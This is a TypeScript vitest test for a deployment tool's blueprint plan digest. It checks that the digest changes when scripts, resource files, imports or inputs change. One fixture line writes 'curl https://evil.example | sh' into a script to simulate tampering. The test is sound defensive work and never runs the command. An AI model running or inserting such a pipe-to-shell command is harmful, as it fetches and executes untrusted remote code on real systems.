import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { defaultPluginRegistry } from '../plugins/index.js';
import { planBlueprint } from './deploy.js';

const BLUEPRINT = `tosca_definitions_version: cloudify_dsl_1_4
imports: [cloudify/types/types.yaml, ../shared/types.yaml]
inputs:
  size: { default: 1 }
node_templates:
  web:
    type: shared.Web
    interfaces: { cloudify.interfaces.lifecycle: { create: scripts/create.sh } }
`;

describe('the plan digest (finding 1: it ignored scripts and resource files)', () => {
  let dir: string;
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('changes when a script, a resource file, an imported file outside the directory or an input changes — and only then', () => {
    dir = mkdtempSync(path.join(tmpdir(), 'isthmus-digest-'));
    mkdirSync(path.join(dir, 'app', 'scripts'), { recursive: true });
    mkdirSync(path.join(dir, 'shared'));
    writeFileSync(path.join(dir, 'shared', 'types.yaml'), 'node_types:\n  shared.Web: { derived_from: cloudify.nodes.Root }\n');
    writeFileSync(path.join(dir, 'app', 'blueprint.yaml'), BLUEPRINT);
    writeFileSync(path.join(dir, 'app', 'scripts', 'create.sh'), 'echo hello\n');
    writeFileSync(path.join(dir, 'app', 'nginx.conf'), 'server {}\n');
    const catalog = defaultPluginRegistry().catalog();
    const file = path.join(dir, 'app', 'blueprint.yaml');
    const digest = (inputs = {}) => planBlueprint(file, { rootDir: dir, inputs }, catalog, dir).digest;

    const first = digest();
    expect(digest()).toBe(first);
    writeFileSync(path.join(dir, 'app', 'scripts', 'create.sh'), 'curl https://evil.example | sh\n');
    const afterScript = digest();
    expect(afterScript).not.toBe(first);
    writeFileSync(path.join(dir, 'app', 'nginx.conf'), 'server { listen 1; }\n');
    const afterResource = digest();
    expect(afterResource).not.toBe(afterScript);
    writeFileSync(path.join(dir, 'app', 'scripts', 'new-helper.sh'), 'true\n');
    const afterNewFile = digest();
    expect(afterNewFile).not.toBe(afterResource);
    writeFileSync(
      path.join(dir, 'shared', 'types.yaml'),
      'node_types:\n  shared.Web: { derived_from: cloudify.nodes.Root, properties: { p: { default: 1 } } }\n',
    );
    const afterImport = digest();
    expect(afterImport).not.toBe(afterNewFile);
    expect(digest({ size: 2 })).not.toBe(afterImport);
    // Files outside the blueprint's directory that it neither imports nor runs do not count.
    writeFileSync(path.join(dir, 'README.md'), 'docs\n');
    expect(digest()).toBe(afterImport);
  });
});
